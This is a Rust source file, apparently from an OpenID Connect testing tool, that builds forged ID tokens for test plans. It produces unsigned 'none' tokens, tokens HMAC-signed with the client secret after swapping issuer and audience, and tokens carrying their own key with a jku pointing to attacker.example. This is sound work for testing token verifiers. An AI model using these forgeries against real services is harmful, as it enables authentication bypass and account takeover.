use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use crate::decoded::Decoded;
use crate::own_keys::signing_key;
use crate::scene::Scene;
use crate::target::Secret;

impl Scene {
    /// What the words of a plan may name in braces.
    pub(crate) fn plan_fact(&self, name: &str) -> Option<String> {
        let login = self.plan.logins.last();
        match name {
            "id_token_of_the_login" => Some(login?.token("id_token")?.to_owned()),
            "long_state" => Some(LONG_STATE.to_owned()),
            "unsigned_hint" => {
                let claims = Value::Object(login?.claims.clone());
                Some(unsigned(&claims))
            }
            "forged_hint" => {
                let login = login?;
                let mut claims = Value::Object(login.claims.clone());
                let (iss, aud) = (claims["iss"].take(), claims["aud"].take());
                claims["iss"] = aud;
                claims["aud"] = iss;
                let client = &login.client;
                let secret = client.client_secret.as_ref().map(Secret::expose);
                Some(by_secret(&claims, secret.unwrap_or(&client.client_id)))
            }
            "hint_that_brings_its_key" => by_own_key(login?.token("id_token")?),
            _ => None,
        }
    }
}

/// A token with the claims of another, signed with a key that its header brings and points to, under the name of the
/// right one (RFC 7515 4.1.2, 4.1.3).
fn by_own_key(token: &str) -> Option<String> {
    let Decoded { header, claims, .. } = Decoded::read("id_token", token)?;
    let key = signing_key("ES256").ok()?;
    let header = json!({
        "alg": "ES256",
        "kid": header["kid"],
        "jwk": key.public_jwk(),
        "jku": "https://attacker.example/key",
    });
    key.sign(&header, &claims?).ok()
}

/// A JSON Web Token that nobody has signed (RFC 7519 6).
pub(crate) fn unsigned(claims: &Value) -> String {
    format!("{}.", unfinished("none", claims))
}

/// One that is signed with a secret, which a client shares with the provider (RFC 7518 3.2).
fn by_secret(claims: &Value, secret: &str) -> String {
    let message = unfinished("HS256", claims);
    let key = hmac::Key::new(hmac::HMAC_SHA256, secret.as_bytes());
    let tag = hmac::sign(&key, message.as_bytes());
    format!("{message}.{}", URL_SAFE_NO_PAD.encode(tag))
}

fn unfinished(alg: &str, claims: &Value) -> String {
    let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
    format!("{}.{}", part(&json!({ "alg": alg })), part(claims))
}

/// As long as anybody sends one, with the characters that are kept as they are in an address.
const LONG_STATE: &str = "0123456789-._~0123456789-._~0123456789-._~0123456789-._~0123456789-._~0123456789-._~0123456789-._~0123456789-._~0123456789-._~-.";
